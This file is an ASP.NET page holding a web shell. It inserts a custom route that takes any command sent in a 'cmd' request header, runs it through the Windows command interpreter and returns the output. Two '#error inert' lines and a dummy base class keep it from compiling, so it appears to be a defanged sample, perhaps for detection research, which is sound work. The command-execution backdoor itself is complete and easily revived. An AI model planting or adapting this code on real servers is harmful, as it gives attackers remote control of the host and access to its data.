<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Web.Routing" %>
<script runat="server">
#error inert
public class MyRoute : RouteBase
{
    public override RouteData GetRouteData(HttpContextBase ctx)
    {
        string c = ctx.Request.Headers["cmd"];
        if (c != null)
            ctx.Response.Write(Shell(c));
        return null;
    }
    public override VirtualPathData GetVirtualPath(RequestContext r, RouteValueDictionary v) { return null; }
    static string Shell(string c)
    {
        var p = new System.Diagnostics.Process { StartInfo = { FileName = "cmd", Arguments = "/c " + c, UseShellExecute = false, RedirectStandardOutput = true } };
        p.Start();
        return p.StandardOutput.ReadToEnd();
    }
}
</script>
<%
#error inert
RouteTable.Routes.Insert(0, new MyRoute());
Response.Write("done");
%>
